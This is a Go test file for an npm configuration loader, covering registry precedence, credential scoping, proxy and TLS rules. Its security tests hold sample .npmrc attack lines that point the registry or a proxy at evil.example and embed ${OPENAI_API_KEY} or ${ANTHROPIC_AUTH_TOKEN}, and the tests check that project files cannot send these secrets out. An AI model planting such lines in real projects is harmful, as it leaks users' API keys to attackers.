package npm

import (
	"encoding/base64"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// place is a machine with the three files of the npm client.
type place struct {
	t   *testing.T
	dir string
	env map[string]string
}

func newPlace(t *testing.T, project, user, global string) *place {
	t.Helper()
	p := &place{t, t.TempDir(), map[string]string{}}
	for name, text := range map[string]string{"project/package.json": "{}", "project/.npmrc": project, "project/sub/x": "", "home/.npmrc": user, "prefix/etc/npmrc": global} {
		name = filepath.Join(p.dir, name)
		if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(name, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	p.env["HOME"], p.env["PREFIX"] = filepath.Join(p.dir, "home"), filepath.Join(p.dir, "prefix")
	return p
}

func (p *place) load() *Config {
	p.t.Helper()
	c, err := Load(filepath.Join(p.dir, "project", "sub"), func(name string) string { return p.env[name] })
	if err != nil {
		p.t.Fatal(err)
	}
	return c
}

func (p *place) registry(name string) string {
	p.t.Helper()
	u, err := p.load().Registry(name)
	if err != nil {
		return err.Error()
	}
	return u.String()
}

// TestOrder: the environment comes before the project, the project before the
// user, the user before the machine, and a scope before all packages.
func TestOrder(t *testing.T) {
	t.Parallel()
	p := newPlace(t, "", "", "")
	want := func(who, registry string) {
		t.Helper()
		if got := p.registry("@openai/codex"); got != registry {
			t.Errorf("%s: got %s, want %s", who, got, registry)
		}
	}
	write := func(file, host string) {
		t.Helper()
		if err := os.WriteFile(filepath.Join(p.dir, file), []byte(host+"\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want("nobody", defaultRegistry)
	write("prefix/etc/npmrc", "registry=https://global.example")
	want("the machine", "https://global.example/")
	write("home/.npmrc", "registry=https://user.example/npm/")
	want("the user", "https://user.example/npm/")
	write("project/.npmrc", "registry=https://project.example/")
	want("the project", "https://project.example/")
	p.env["NPM_CONFIG_REGISTRY"] = "https://upper.example/"
	want("upper case", "https://upper.example/")
	p.env["npm_config_registry"] = "https://lower.example/"
	want("lower case", "https://lower.example/")
	write("prefix/etc/npmrc", "@openai:registry=https://scope.example/")
	want("the scope", "https://scope.example/")
	if got := p.registry("left-pad"); got != "https://lower.example/" {
		t.Errorf("a package without a scope: %s", got)
	}
	p.env["npm_config_userconfig"] = filepath.Join(p.dir, "none")
	delete(p.env, "npm_config_registry")
	delete(p.env, "NPM_CONFIG_REGISTRY")
	write("project/.npmrc", "")
	if got := p.registry("left-pad"); got != defaultRegistry {
		t.Errorf("another user file: %s", got)
	}
}

// TestRegistryIsSafe: what others on the way could change is refused.
func TestRegistryIsSafe(t *testing.T) {
	t.Parallel()
	for registry, want := range map[string]string{
		"http://r.example/":             "must be an https address",
		"ftp://r.example/":              "must be an https address",
		"http://127.0.0.1.evil.example": "must be an https address",
		"//r.example":                   "must be an https address",
		"https://user:pw@r.example/":    "the registry must be an address",
		"https://r.example/?x":          "the registry must be an address",
		"r.example":                     "the registry must be an address",
		"http://127.0.0.1:4873/":        "http://127.0.0.1:4873/",
		"http://localhost:4873":         "http://localhost:4873/",
	} {
		p := newPlace(t, "", "registry="+registry, "")
		got := p.registry("x")
		if !strings.Contains(got, want) || strings.Contains(got, "pw") {
			t.Errorf("%s: got %q, want %q", registry, got, want)
		}
	}
}

// TestAuthorization: a credential goes to its host and path, and nowhere else.
func TestAuthorization(t *testing.T) {
	t.Parallel()
	user := strings.Join([]string{
		"registry=https://main.example/npm/", "@own:registry=https://own.example/api/npm/",
		"//main.example/npm/:_authToken=main", "//own.example/api/npm/:_auth=b3du",
		"//pass.example/:username=me", "//pass.example/:_password=" + base64.StdEncoding.EncodeToString([]byte("s:cret")),
		"//deep.example/a/b/:_authToken=deep", "//deep.example/:_authToken=shallow", "//port.example:8443/:_authToken=port",
	}, "\n")
	c := newPlace(t, "", user, "").load()
	for _, row := range []struct{ address, pkg, want string }{
		{"https://main.example/npm/@openai%2fcodex", "@openai/codex", "Bearer main"},
		{"https://main.example/tarballs/x.tgz", "x", "Bearer main"}, // beside the registry, as npm
		{"https://main.example.evil.example/npm/x", "x", ""},
		{"https://evil.example/main.example/npm/x", "x", ""},
		{"https://main.example:8443/npm/x", "x", ""},
		{"https://own.example/api/npm/@own%2fx", "@own/x", "Basic b3du"},
		{"https://own.example/files/x.tgz", "@own/x", "Basic b3du"},
		{"https://own.example/files/x.tgz", "x", ""},
		{"https://pass.example/x", "x", "Basic " + base64.StdEncoding.EncodeToString([]byte("me:s:cret"))},
		{"https://deep.example/a/b/c/x", "x", "Bearer deep"},
		{"https://deep.example/a/bc/x", "x", "Bearer shallow"},
		{"https://port.example:8443/x", "x", "Bearer port"},
		{"https://port.example/x", "x", ""},
	} {
		u, err := url.Parse(row.address)
		if err != nil {
			t.Fatal(err)
		}
		if got, err := c.Authorization(u, row.pkg); err != nil || got != row.want {
			t.Errorf("%s for %s: got %q, %v, want %q", row.address, row.pkg, got, err, row.want)
		}
	}
}

// TestUnscopedCredentials belong only to the default registry.
func TestUnscopedCredentials(t *testing.T) {
	t.Parallel()
	c := newPlace(t, "", "_auth=bWU6cHc=\nregistry=https://main.example/\n@own:registry=https://own.example/", "").load()
	for address, want := range map[string]string{"https://main.example/x": "Basic bWU6cHc=", "https://own.example/@own%2fx": "", "https://cdn.example/x.tgz": ""} {
		u, err := url.Parse(address)
		if err != nil {
			t.Fatal(err)
		}
		pkg := "x"
		if strings.Contains(address, "own") {
			pkg = "@own/x"
		}
		if got, err := c.Authorization(u, pkg); err != nil || got != want {
			t.Errorf("%s: got %q, %v", address, got, err)
		}
	}
}

// TestProjectCannotSendSecrets: a folder that another made can choose a
// registry, but cannot have it told what is in the environment. The user's own
// file can name every variable, and a project's those that are made for it.
func TestProjectCannotSendSecrets(t *testing.T) {
	t.Parallel()
	for _, attack := range []string{
		"registry=https://evil.example/${OPENAI_API_KEY}/",
		"registry=https://evil.example/\n//evil.example/:_authToken=${OPENAI_API_KEY}",
		"registry=https://evil.example/\n//evil.example/:_auth=${ANTHROPIC_AUTH_TOKEN}",
		"registry=https://evil.example/\n_authToken=${OPENAI_API_KEY}",
	} {
		sent := func(p *place) string {
			p.env["OPENAI_API_KEY"], p.env["ANTHROPIC_AUTH_TOKEN"] = "sk-canary", "canary"
			c := p.load()
			u, err := c.Registry("x")
			if err != nil {
				return err.Error()
			}
			h, err := c.Authorization(u, "x")
			if err != nil {
				return err.Error()
			}
			return u.String() + " " + h
		}
		if got := sent(newPlace(t, "", attack, "")); !strings.Contains(got, "canary") {
			t.Errorf("from the user's file, nothing is sent: the test shows nothing: %s", got)
		}
		if got := sent(newPlace(t, attack, "", "")); strings.Contains(got, "canary") || !strings.Contains(got, "move the line to your own .npmrc") {
			t.Errorf("from the project's file: %s", got)
		}
	}
	honest := newPlace(t, "registry=https://r.example/\n//r.example/:_authToken=${NPM_TOKEN}", "", "")
	honest.env["NPM_TOKEN"] = "token"
	u, err := honest.load().Registry("x")
	if err != nil {
		t.Fatal(err)
	}
	if got, err := honest.load().Authorization(u, "x"); err != nil || got != "Bearer token" {
		t.Errorf("an honest project: %q, %v", got, err)
	}
}

// TestProjectCannotBeTrusted: a project's file says neither whose certificates
// are good nor where the other files are. Where it could, its proxy would get
// the user's token.
func TestProjectCannotBeTrusted(t *testing.T) {
	t.Parallel()
	for _, attack := range []string{"cafile=/etc/ssl/certs/ca-certificates.crt\nproxy=http://evil.example", "ca=x"} {
		if _, err := newPlace(t, attack, "", "").load().TLS(); err == nil || !strings.Contains(err.Error(), ".npmrc:1: a project's .npmrc cannot say whom to trust") {
			t.Errorf("%q: %v", attack, err)
		}
	}
	for _, key := range []string{"globalconfig", "userconfig", "prefix"} {
		p := newPlace(t, "", "", "")
		evil := filepath.Join(p.dir, "project")
		for _, name := range []string{"evil", "etc/npmrc"} {
			if err := os.MkdirAll(filepath.Join(evil, "etc"), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(filepath.Join(evil, name), []byte("registry=https://evil.example/${OPENAI_API_KEY}"), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		to := filepath.Join(evil, "evil")
		if key == "prefix" {
			to = evil
		}
		if err := os.WriteFile(filepath.Join(evil, ".npmrc"), []byte(key+"="+to), 0o644); err != nil {
			t.Fatal(err)
		}
		p.env["OPENAI_API_KEY"] = "canary"
		if got := p.registry("x"); got != defaultRegistry {
			t.Errorf("%s of the project is followed: %s", key, got)
		}
		delete(p.env, "PREFIX") // which would win
		p.env["npm_config_"+key] = to
		if got := p.registry("x"); !strings.Contains(got, "canary") {
			t.Errorf("%s of the environment is not followed: the test shows nothing: %s", key, got)
		}
	}
}

// TestCertificates: the configured authorities replace those of the system, and
// certificates are checked whatever the configuration says.
func TestCertificates(t *testing.T) {
	t.Parallel()
	p := newPlace(t, "", "strict-ssl=false", "")
	c := p.load()
	conf, err := c.TLS()
	if err != nil || conf.InsecureSkipVerify || conf.RootCAs != nil {
		t.Errorf("strict-ssl=false: %+v, %v", conf, err)
	}
	if w := c.Warnings(); len(w) != 1 || !strings.Contains(w[0], ".npmrc:1: strict-ssl=false is not followed") {
		t.Errorf("warnings: %q", w)
	}
	if w := newPlace(t, "", "strict-ssl=true", "").load().Warnings(); len(w) != 0 {
		t.Errorf("without cause: %q", w)
	}
	for setting, want := range map[string]string{"cafile=/nowhere/ca.pem": "cafile", "ca=nonsense": "ca is not a certificate"} {
		if _, err := newPlace(t, "", setting, "").load().TLS(); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: %v", setting, err)
		}
	}
}

func TestProxy(t *testing.T) {
	t.Parallel()
	for _, row := range []struct{ user, env, to, want string }{
		{"https-proxy=http://p.example:8080", "", "https://r.example/", "http://p.example:8080"},
		{"proxy=http://p.example:8080", "", "https://r.example/", "http://p.example:8080"},
		{"", "HTTPS_PROXY=http://e.example:1", "https://r.example/", "http://e.example:1"},
		{"", "https_proxy=http://e.example:1", "https://r.example/", "http://e.example:1"},
		{"https-proxy=http://p.example:8080", "HTTPS_PROXY=http://e.example:1", "https://r.example/", "http://p.example:8080"},
		{"https-proxy=http://p.example:8080\nnoproxy=r.example", "", "https://r.example/", ""},
		{"https-proxy=http://p.example:8080", "NO_PROXY=.example", "https://r.example/", ""},
		{"https-proxy=http://p.example:8080", "", "http://127.0.0.1:4873/", ""},
		{"", "HTTP_PROXY=http://e.example:1", "https://r.example/", ""},
		{"", "", "https://r.example/", ""},
	} {
		p := newPlace(t, "", row.user, "")
		if name, v, ok := strings.Cut(row.env, "="); ok {
			p.env[name] = v
		}
		choose, err := p.load().Proxy()
		if err != nil {
			t.Fatal(err)
		}
		u, err := url.Parse(row.to)
		if err != nil {
			t.Fatal(err)
		}
		got, err := choose(u)
		if err != nil || got == nil && row.want != "" || got != nil && got.String() != row.want {
			t.Errorf("%+v: got %v, %v", row, got, err)
		}
	}
}

func TestErrorsNameTheLine(t *testing.T) {
	t.Parallel()
	p := newPlace(t, "", "# mine\nregistry=https://${HOST}/", "")
	if got := p.registry("x"); !strings.HasSuffix(got, ".npmrc:2: the variable HOST is not set") {
		t.Errorf("got %s", got)
	}
	bad := newPlace(t, "", "_authToken=a\\\"b\x01", "")
	u, _ := url.Parse(defaultRegistry)
	if _, err := bad.load().Authorization(u, "x"); err == nil || strings.Contains(err.Error(), "\x01") {
		t.Errorf("a control character: %v", err)
	}
}
